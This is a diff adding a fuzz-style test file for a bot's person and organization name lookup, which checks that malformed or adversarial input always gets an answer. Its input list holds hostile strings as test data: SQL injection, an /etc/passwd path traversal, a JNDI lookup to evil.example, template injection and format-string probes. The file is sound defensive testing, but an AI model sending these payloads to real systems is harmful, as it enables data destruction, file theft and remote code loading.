@@ -1,0 +1,117 @@
+"""Whatever is typed gets an answer, and never an error."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from bot.catalogue.reading import Catalogue
+from bot.names import Lookup, NameIndex, OrganizationNames, PersonNames
+
+NASTY = [
+    "",
+    " ",
+    "\x00",
+    "\n\r\t\v\f",
+    "a" * 2_000,
+    "word " * 100,
+    "wei " * 500,
+    "ОpenAI",  # a Cyrillic О
+    "mаx schwаrzer",  # Cyrillic а
+    "\u200bmax\u200d \u2060schwarzer\ufeff",
+    "\u202eresrawhcs xam\u202c",
+    "m\u0301\u0302\u0303\u0304ax " + "\u0301" * 300,
+    "👩‍🔬🧪🤖",
+    "max 🤖 schwarzer",
+    "'; DROP TABLE person; --",
+    '" OR 1=1 --',
+    "**max** __schwarzer__ `x` ||spoiler||",
+    "[max](https://evil.example)",
+    "@everyone <@123456789012345678> <#1> <@&2>",
+    "<:emoji:123456789012345678>",
+    "../../../../etc/passwd",
+    "${jndi:ldap://evil.example/a}",
+    "{{7*7}}",
+    "%s%s%s%n",
+    "\ud800",  # half a surrogate pair
+    "ﷺ" * 100,
+    "Z̸̢̛a̷̢͝l̵͖͑g̶͚̈o̴̲͒",
+    "一" * 2_000,
+    "ａｄａ　ｆｉｃｔｉｏｎａｌ",
+    "𝓜𝓪𝔁 𝓢𝓬𝓱𝔀𝓪𝓻𝔃𝓮𝓻",
+    "max.schwarzer@openai.com" * 20,
+    "https://" + "a" * 1_000,
+    "-" * 500,
+    "0" * 500,
+]
+
+
+@pytest.fixture(scope="module")
+def lookup(shipped: Catalogue) -> Lookup:
+    return Lookup(
+        people=[
+            PersonNames(
+                person.id,
+                (person.name, *person.aliases),
+                (person.id, *person.links.values()),
+                tuple(role.organization for role in person.roles),
+                person.areas,
+            )
+            for person in shipped.people
+        ],
+        organizations=[
+            OrganizationNames(place.id, (place.name, *place.aliases), place.parent)
+            for place in shipped.organizations
+        ],
+    )
+
+
+@pytest.mark.parametrize("typed", NASTY, ids=range(len(NASTY)))
+def test_nasty_text_is_answered_and_completed(lookup: Lookup, typed: str) -> None:
+    for found in (lookup.person(typed), lookup.organization(typed)):
+        assert found.decision in ("sure", "choose", "none")
+        assert len(found.candidates) <= 10
+    assert len(lookup.complete_person(typed)) <= 25
+    assert len(lookup.complete_organization(typed)) <= 25
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=120))
+def test_any_text_is_answered_and_completed(lookup: Lookup, typed: str) -> None:
+    assert lookup.person(typed).decision in ("sure", "choose", "none")
+    assert lookup.organization(typed).decision in ("sure", "choose", "none")
+    lookup.complete_person(typed)
+    lookup.complete_organization(typed)
+
+
+@pytest.mark.parametrize(
+    ("typed", "meant"),
+    [
+        ("mаx schwаrzer", "max-schwarzer"),  # Cyrillic а
+        ("\u200bmax\u200d \u2060schwarzer\ufeff", "max-schwarzer"),
+        ("𝓜𝓪𝔁 𝓢𝓬𝓱𝔀𝓪𝓻𝔃𝓮𝓻", "max-schwarzer"),
+        ("max 🤖 schwarzer", "max-schwarzer"),
+        ("**max** __schwarzer__", "max-schwarzer"),
+    ],
+)
+def test_a_name_is_found_through_what_hides_it(lookup: Lookup, typed: str, meant: str) -> None:
+    found = lookup.person(typed)
+    assert (found.decision, found.candidates[0].id) == ("sure", meant)
+
+
+def test_an_organization_is_found_through_letters_of_another_alphabet(lookup: Lookup) -> None:
+    found = lookup.organization("ОpenAI")
+    assert (found.decision, found.candidates[0].id) == ("sure", "openai")
+
+
+@given(st.text(max_size=60), st.text(max_size=60))
+@settings(max_examples=100, deadline=None)
+def test_any_text_may_be_a_name_that_is_stored(name: str, typed: str) -> None:
+    index = NameIndex.build([("one", "Ada Fictional")])
+    index.add("two", name)
+    index.find(typed)
+    index.find(name)
+    index.complete(name)
+    index.remove("two")
+    assert "two" not in [one.id for one in index.find(name).candidates]
